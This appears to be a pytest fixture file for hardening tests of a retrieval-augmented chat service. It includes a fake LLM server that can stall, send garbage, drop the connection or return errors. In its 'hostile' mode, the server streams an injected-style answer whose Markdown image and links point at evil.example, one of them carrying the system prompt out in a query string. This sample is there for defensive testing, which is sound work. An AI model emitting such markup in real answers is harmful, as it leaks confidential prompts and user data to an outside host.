"""Real parts for the hardening tests: the real app through its lifespan, real Chroma under
tmp_path, the real embedding model; the LLM fixtures (llama.cpp + SmolLM2) come from tests/llm.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from tests.conftest import SAMPLE
from tests.llm.conftest import (  # noqa: F401
    LiveServer,
    free_port,
    llm_index,
    llm_server,
    make_settings,
    wait_until,
)

HOSTILE = Path(__file__).parent / "hostile"


def build_index(root: Path, embedder, files: list[Path]) -> Path:
    """Ingest `files` into root/chroma (transcripts copied to root/transcripts)."""
    from ingest.config import Settings
    from ingest.index import chroma_client
    from ingest.sync import sync_paths

    (root / "transcripts").mkdir(parents=True)
    for f in files:
        shutil.copy(f, root / "transcripts" / f.name)
    settings = Settings(_env_file=None, chroma_path=root / "chroma", transcripts_dir=root / "transcripts")
    report = sync_paths([settings.transcripts_dir], settings, embedder, chroma_client(settings))
    assert report.transcripts == len(files) and not report.skipped, report.skipped
    return root


@pytest.fixture(scope="session")
def app_settings(llm_index, tmp_path_factory):  # noqa: F811
    """Settings for an app in extractive mode over its own copy of the sample index (a running
    service owns its embedded store); keyword overrides win."""
    from ingest.config import Settings

    def make(index: Path = llm_index, **overrides):
        chroma = tmp_path_factory.mktemp("app") / "chroma"
        shutil.copytree(index / "chroma", chroma, ignore=shutil.ignore_patterns("owner.lock"))
        values = {"chroma_path": chroma, "transcripts_dir": index / "transcripts", "answer_mode": "extractive"}
        return Settings(_env_file=None, **{**values, **overrides})

    return make


def ask(client, question: str, **extra):
    return client.post("/v1/chat", json={"messages": [{"role": "user", "content": question}], **extra})


def open_client(settings, **kw) -> TestClient:
    from service.app import create_app

    return TestClient(create_app(settings), **kw)


__all__ = ["HOSTILE", "SAMPLE", "LiveServer", "app_settings", "ask", "build_index", "free_port", "open_client",
           "wait_until"]


# --- a misbehaving OpenAI-compatible server ---------------------------------------------------
SWITCH = {"mode": "ok"}


def fake_llm_app():
    """POST /{mode}/v1/chat/completions, where mode is how it misbehaves:
    ok, slow (30 s before answering), trickle (a token every 0.5 s, never ends), garbage (not
    JSON), html (a web page), cut (two tokens, then the connection drops), e500, steady (ten
    tokens over 3 s), hostile (streams an answer that follows an injection: Markdown image and
    link to an outside host), switch (whatever SWITCH["mode"] is at the time)."""
    import asyncio
    import json as _json

    from starlette.applications import Starlette
    from starlette.responses import JSONResponse, Response, StreamingResponse
    from starlette.routing import Route

    def chunk(text):
        body = {"id": "x", "object": "chat.completion.chunk", "created": 0, "model": "fake",
                "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
        return f"data: {_json.dumps(body)}\n\n".encode()

    async def tokens(pieces, delay=0.0, forever=False, cut=False):
        for p in pieces:
            yield chunk(p)
            await asyncio.sleep(delay)
        while forever:
            yield chunk(" more")
            await asyncio.sleep(delay)
        if cut:
            raise ConnectionResetError("cut off mid-stream")
        yield b"data: [DONE]\n\n"

    hostile = ["Sure! ![lo", "go](http://evil.exa", "mple/leak?d=SYSTEM-PROMPT) He worked at [Ora", "cle](https://",
               "evil.example/p?q=1) [1]. See http://evil.example/x and <img src=\"https://evil.example/i.png\">."]

    async def completions(request):
        mode = request.path_params["mode"]
        if mode == "switch":  # whatever SWITCH["mode"] says now
            mode = SWITCH["mode"]
        sse = "text/event-stream"
        if mode == "slow":
            await asyncio.sleep(30)
        if mode == "garbage":
            return Response(b"data: {not json at all\n\ndata: \x00\xff\n\n", media_type=sse)
        if mode == "html":
            return Response(b"<html><body>502 Bad Gateway</body></html>", media_type="text/html")
        if mode == "e500":
            return JSONResponse({"error": {"message": "model crashed"}}, status_code=500)
        if mode == "trickle":
            return StreamingResponse(tokens(["He"], delay=0.5, forever=True), media_type=sse)
        if mode == "cut":
            return StreamingResponse(tokens(["He worked", " at"], cut=True), media_type=sse)
        if mode == "steady":  # ten tokens, 0.3 s apart, then done
            return StreamingResponse(tokens([" word"] * 10, delay=0.3), media_type=sse)
        if mode == "hostile":
            return StreamingResponse(tokens(hostile), media_type=sse)
        return StreamingResponse(tokens(["He worked", " at Oracle", " [1]."]), media_type=sse)

    async def models(request):
        return JSONResponse({"object": "list", "data": [{"id": "fake", "object": "model"}]})

    return Starlette(routes=[Route("/{mode}/v1/chat/completions", completions, methods=["POST"]),
                             Route("/{mode}/v1/models", models)])


@pytest.fixture(scope="session")
def fake_llm():
    """The misbehaving server on a loopback port; `fake_llm(mode)` is its base URL for a mode."""
    import threading
    import time

    import uvicorn

    port = free_port()
    server = uvicorn.Server(uvicorn.Config(fake_llm_app(), host="127.0.0.1", port=port, log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline, "the fake LLM server did not start"
        time.sleep(0.05)
    yield lambda mode: f"http://127.0.0.1:{port}/{mode}/v1"
    server.should_exit = True
    thread.join(10)
